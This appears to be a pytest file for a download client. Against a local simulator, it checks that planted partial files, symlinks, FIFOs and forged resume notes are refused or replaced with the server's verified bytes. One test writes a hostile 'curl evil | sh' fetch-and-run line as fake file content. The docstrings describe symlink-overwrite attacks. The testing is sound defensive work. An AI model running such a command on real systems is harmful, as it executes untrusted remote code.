"""Downloads trust nothing already on disk (issue 21): a planted ``.part``, note or target
is never followed, never believed, and nothing is reported verified unless the bytes on
disk match the server's own validators. Against the simulator on 127.0.0.1."""

from __future__ import annotations

import asyncio
import hashlib
import json
import os
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from tenacity import wait_none

from qianfan_export_wait import ExportStatus, ExportStatusClient
from qianfan_export_wait.download import Downloader, _PartialFile, read_partial_note
from qianfan_export_wait.download_rules import md5_of_etag
from qianfan_export_wait.errors import DownloadError, UnsafeFileError
from qianfan_export_wait.testing import SimulatedQianfan, simulated_qianfan

SIZE = 200_000


@pytest.fixture
async def fake() -> AsyncIterator[SimulatedQianfan]:
    async with simulated_qianfan(file_sizes=(SIZE, SIZE)) as simulated:
        yield simulated


@pytest.fixture
async def client(fake: SimulatedQianfan) -> AsyncIterator[ExportStatusClient]:
    async with fake.client(max_attempts=1) as status_client:
        yield status_client


def _downloader(fake: SimulatedQianfan, dest: Path, **options: Any) -> Downloader:
    options.setdefault("retry_wait", wait_none())
    return Downloader(dest, credentials=fake.credentials, bos_endpoint=fake.base_url, **options)


async def _done(fake: SimulatedQianfan, client: ExportStatusClient) -> ExportStatus:
    export = fake.add_export(finish_after=0, export_type="local")
    return await client.get_status(export.export_id)


def _true_bytes(fake: SimulatedQianfan, status: ExportStatus) -> bytes:
    return b"".join(fake.simulator.file_of(status.export_id).iter_range())


def _layout(tmp_path: Path, fake: SimulatedQianfan, status: ExportStatus) -> tuple[Path, str]:
    folder = tmp_path / "dl" / str(status.export_id)
    folder.mkdir(parents=True)
    return folder, fake.simulator.file_of(status.export_id).name


def _plant_note(folder: Path, name: str, etag: str, size: int | None, md5: str | None) -> None:
    note = {"etag": etag, "size": size, "md5": md5, "sha256": None}
    (folder / f".{name}.part.json").write_text(json.dumps(note), "utf-8")


def _etag(fake: SimulatedQianfan, status: ExportStatus) -> str:
    return f'"{fake.simulator.file_of(status.export_id).digest().md5_hex}"'


async def test_part_that_links_outside_the_folder_is_never_followed(
    fake: SimulatedQianfan, client: ExportStatusClient, tmp_path: Path
) -> None:
    """The issue's first attack: a ``.part`` symlink to a file outside the folder, and a
    note with the real ETag and ``"md5": null``. Before the fix the download's bytes were
    appended to the outside file and the link renamed into place, reported verified."""
    status = await _done(fake, client)
    folder, name = _layout(tmp_path, fake, status)
    outside = tmp_path / "victim.txt"
    outside.write_bytes(b"precious\n")
    (folder / f".{name}.part").symlink_to(outside)
    _plant_note(folder, name, _etag(fake, status), SIZE, None)
    async with _downloader(fake, tmp_path / "dl") as downloader:
        with pytest.raises(UnsafeFileError, match="symbolic link") as caught:
            await downloader.download(status)
    assert f".{name}.part" in str(caught.value)
    assert outside.read_bytes() == b"precious\n"
    assert not (folder / name).exists() and not (folder / name).is_symlink()
    assert fake.stats.total_file_requests == 0


async def test_planted_prefix_is_not_believed_and_the_whole_file_is_fetched(
    fake: SimulatedQianfan, client: ExportStatusClient, tmp_path: Path
) -> None:
    """The issue's second attack: a regular ``.part`` starting ``#!/bin/sh`` with a note
    carrying the real ETag. Before the fix the file ended as prefix plus true suffix,
    reported verified with a sha256 that was not the file's."""
    status = await _done(fake, client)
    folder, name = _layout(tmp_path, fake, status)
    (folder / f".{name}.part").write_bytes(b"#!/bin/sh\ncurl evil | sh\n")
    _plant_note(folder, name, _etag(fake, status), SIZE, None)
    async with _downloader(fake, tmp_path / "dl") as downloader:
        record = await downloader.download(status)
    truth = _true_bytes(fake, status)
    on_disk = await asyncio.to_thread(Path(record.path).read_bytes)
    assert on_disk == truth
    assert (record.bytes, record.sha256) == (len(on_disk), hashlib.sha256(on_disk).hexdigest())
    assert sorted(p.name for p in folder.iterdir()) == [name]


async def test_planted_prefix_with_a_lying_note_md5_is_not_believed(
    fake: SimulatedQianfan, client: ExportStatusClient, tmp_path: Path
) -> None:
    """The note's own size and MD5 describe the forged file: they prove nothing."""
    status = await _done(fake, client)
    folder, name = _layout(tmp_path, fake, status)
    truth = _true_bytes(fake, status)
    prefix = b"#!/bin/sh\n"
    forged = prefix + truth[len(prefix) :]
    (folder / f".{name}.part").write_bytes(forged[:1000])
    _plant_note(folder, name, _etag(fake, status), SIZE, hashlib.md5(forged).hexdigest())
    async with _downloader(fake, tmp_path / "dl") as downloader:
        record = await downloader.download(status)
    assert await asyncio.to_thread(Path(record.path).read_bytes) == truth
    assert record.sha256 == hashlib.sha256(truth).hexdigest()


async def test_true_prefix_is_resumed_and_checked_whole(
    fake: SimulatedQianfan, client: ExportStatusClient, tmp_path: Path
) -> None:
    status = await _done(fake, client)
    folder, name = _layout(tmp_path, fake, status)
    truth = _true_bytes(fake, status)
    (folder / f".{name}.part").write_bytes(truth[:5000])
    _plant_note(folder, name, _etag(fake, status), None, None)
    async with _downloader(fake, tmp_path / "dl") as downloader:
        record = await downloader.download(status)
    assert await asyncio.to_thread(Path(record.path).read_bytes) == truth
    assert fake.stats.resumed_with_if_match == 1
    assert fake.stats.file_requests_by_outcome["full"] == 0


@pytest.mark.parametrize("kind", ["fifo", "directory", "link_to_nothing"])
async def test_part_that_is_not_a_regular_file_is_refused_without_blocking(
    fake: SimulatedQianfan, client: ExportStatusClient, tmp_path: Path, kind: str
) -> None:
    status = await _done(fake, client)
    folder, name = _layout(tmp_path, fake, status)
    part = folder / f".{name}.part"
    if kind == "fifo":
        os.mkfifo(part)
    elif kind == "directory":
        part.mkdir()
    else:
        part.symlink_to(tmp_path / "nothing-here")
    _plant_note(folder, name, _etag(fake, status), SIZE, None)
    async with _downloader(fake, tmp_path / "dl") as downloader:
        with pytest.raises(UnsafeFileError, match=r"\.part"):
            await downloader.download(status)
    assert not (tmp_path / "nothing-here").exists()


@pytest.mark.parametrize("which", ["note", "target"])
async def test_note_or_target_that_is_a_link_is_refused(
    fake: SimulatedQianfan, client: ExportStatusClient, tmp_path: Path, which: str
) -> None:
    status = await _done(fake, client)
    folder, name = _layout(tmp_path, fake, status)
    outside = tmp_path / "outside.json"
    outside.write_text(json.dumps({"etag": _etag(fake, status)}), "utf-8")
    link = folder / (f".{name}.part.json" if which == "note" else name)
    link.symlink_to(outside)
    async with _downloader(fake, tmp_path / "dl") as downloader:
        with pytest.raises(UnsafeFileError, match="symbolic link"):
            await downloader.download(status)
    assert json.loads(outside.read_text("utf-8")) == {"etag": _etag(fake, status)}


async def test_every_refusal_is_a_download_error(
    fake: SimulatedQianfan, client: ExportStatusClient, tmp_path: Path
) -> None:
    status = await _done(fake, client)
    folder, name = _layout(tmp_path, fake, status)
    (folder / name).mkdir()
    async with _downloader(fake, tmp_path / "dl") as downloader:
        with pytest.raises(DownloadError):
            await downloader.download(status)


async def test_planted_target_is_checked_against_the_server_and_replaced(
    fake: SimulatedQianfan, client: ExportStatusClient, tmp_path: Path
) -> None:
    """Before the fix a regular file at the target was reported verified, with its own
    sha256, without asking the server anything."""
    status = await _done(fake, client)
    folder, name = _layout(tmp_path, fake, status)
    (folder / name).write_bytes(b"#!/bin/sh\nplanted\n")
    async with _downloader(fake, tmp_path / "dl") as downloader:
        record = await downloader.download(status)
    truth = _true_bytes(fake, status)
    assert await asyncio.to_thread((folder / name).read_bytes) == truth
    assert (record.sha256, record.bytes, record.fetched) == (
        hashlib.sha256(truth).hexdigest(),
        SIZE,
        True,
    )


async def test_true_target_is_confirmed_by_the_server_without_a_body(
    fake: SimulatedQianfan, client: ExportStatusClient, tmp_path: Path
) -> None:
    status = await _done(fake, client)
    async with _downloader(fake, tmp_path / "dl") as downloader:
        first = await downloader.download(status)
        sent_before = fake.stats.file_bytes_sent
        second = await downloader.download(status)
    assert (second.fetched, second.sha256, second.path) == (False, first.sha256, first.path)
    assert fake.stats.file_requests_by_outcome["not_modified"] == 1
    assert fake.stats.file_bytes_sent == sent_before


# -- the partial-file loader, fuzzed ---------------------------------------------------------

_MD5_ETAG = st.binary(min_size=16, max_size=16).map(lambda digest: f'"{digest.hex()}"')
_JSON = st.recursive(
    st.none() | st.booleans() | st.integers() | st.text(max_size=20),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(max_size=8), inner),
    max_leaves=10,
)
_NOTES = st.one_of(
    st.binary(max_size=200),
    _JSON.map(lambda value: json.dumps(value).encode()),
    st.fixed_dictionaries(
        {"etag": st.one_of(_MD5_ETAG, st.text(max_size=40), _JSON)},
        optional={"size": _JSON, "md5": _JSON, "sha256": _JSON},
    ).map(lambda value: json.dumps(value).encode()),
    st.integers(min_value=1, max_value=50_000).map(lambda depth: b"[" * depth + b"]" * depth),
)
_KINDS = ("absent", "regular", "link", "folder", "fifo")


@settings(max_examples=300, deadline=None)
@given(
    note=_NOTES,
    held=st.binary(max_size=300),
    part_kind=st.sampled_from(_KINDS),
    note_kind=st.sampled_from(_KINDS),
)
def test_partial_loader_resumes_only_what_it_may_and_never_follows_a_link(
    tmp_path_factory: pytest.TempPathFactory,
    note: bytes,
    held: bytes,
    part_kind: str,
    note_kind: str,
) -> None:
    """Whatever lies in the folder: the loader takes up a regular ``.part`` under a
    regular note naming a strong MD5 ETag, drops anything else that is regular, refuses
    (``UnsafeFileError``) a link or non-regular file, and never touches a link's target."""
    base = tmp_path_factory.mktemp("loader")
    folder = base / "export"
    folder.mkdir()
    outside = base / "outside"
    outside.write_bytes(b"outside")
    for name, kind, content in (
        (".f.csv.part", part_kind, held),
        (".f.csv.part.json", note_kind, note),
    ):
        path = folder / name
        if kind == "regular":
            path.write_bytes(content)
        elif kind == "link":
            path.symlink_to(outside)
        elif kind == "folder":
            path.mkdir()
        elif kind == "fifo":
            os.mkfifo(path)
    dir_fd = os.open(folder, os.O_RDONLY | os.O_DIRECTORY)
    partial = _PartialFile(dir_fd, folder, "f.csv")
    try:
        partial.load()
    except UnsafeFileError as error:
        assert {part_kind, note_kind} & {"link", "folder", "fifo"}
        assert ".f.csv.part" in str(error)
    else:
        assert {part_kind, note_kind} <= {"absent", "regular"}
        left = sorted(path.name for path in folder.iterdir())
        if partial.resume_etag is not None:
            assert (part_kind, note_kind) == ("regular", "regular")
            assert md5_of_etag(partial.resume_etag) is not None
            assert partial.resume_etag == json.loads(note)["etag"]
            assert partial.offset == len(held)
            assert left == [".f.csv.part", ".f.csv.part.json"]
        else:
            assert partial.offset == 0
            assert left == []
    finally:
        partial.close()
        os.close(dir_fd)
    assert outside.read_bytes() == b"outside"


@settings(max_examples=300, deadline=None)
@given(raw=st.one_of(_NOTES, st.binary(max_size=5000)))
def test_note_reader_never_raises_and_names_only_md5_etags(raw: bytes) -> None:
    etag = read_partial_note(raw)
    assert etag is None or md5_of_etag(etag) is not None


@settings(max_examples=25, deadline=None)
@given(data=st.data())
def test_whatever_part_was_planted_the_file_in_place_is_the_servers(
    tmp_path_factory: pytest.TempPathFactory, data: st.DataObject
) -> None:
    """A true prefix, a prefix with one byte changed, a longer file, random bytes: the
    file that lands and its record are always the server's file, checked whole."""

    async def run() -> None:
        async with simulated_qianfan(file_sizes=(SIZE, SIZE)) as fake:
            async with fake.client(max_attempts=1) as client:
                status = await _done(fake, client)
            truth = _true_bytes(fake, status)
            length = data.draw(st.integers(min_value=0, max_value=SIZE + 10), label="length")
            planted = bytearray(truth[:length] + b"\0" * max(0, length - SIZE))
            if planted and data.draw(st.booleans(), label="flip one byte"):
                spot = data.draw(st.integers(0, len(planted) - 1), label="spot")
                planted[spot] ^= 0x01
            if data.draw(st.booleans(), label="random bytes instead"):
                planted = bytearray(data.draw(st.binary(max_size=500), label="random"))
            dest = tmp_path_factory.mktemp("planted")
            folder = dest / str(status.export_id)
            folder.mkdir()
            name = fake.simulator.file_of(status.export_id).name
            (folder / f".{name}.part").write_bytes(bytes(planted))
            _plant_note(folder, name, _etag(fake, status), SIZE, None)
            async with _downloader(fake, dest, max_attempts=3) as downloader:
                record = await downloader.download(status)
            on_disk = await asyncio.to_thread(Path(record.path).read_bytes)
            assert on_disk == truth
            assert record.sha256 == hashlib.sha256(truth).hexdigest()
            assert record.bytes == SIZE

    asyncio.run(run())


async def test_stale_part_and_note_beside_a_confirmed_target_are_dropped(
    fake: SimulatedQianfan, client: ExportStatusClient, tmp_path: Path
) -> None:
    """A run killed between the rename and dropping the note left a note beside the
    finished file for good (seen as a flaky ``test_download_soak`` leftover)."""
    status = await _done(fake, client)
    folder, name = _layout(tmp_path, fake, status)
    await asyncio.to_thread((folder / name).write_bytes, _true_bytes(fake, status))
    (folder / f".{name}.part").write_bytes(b"stale")
    _plant_note(folder, name, _etag(fake, status), SIZE, None)
    async with _downloader(fake, tmp_path / "dl") as downloader:
        record = await downloader.download(status)
    assert not record.fetched
    assert sorted(path.name for path in folder.iterdir()) == [name]
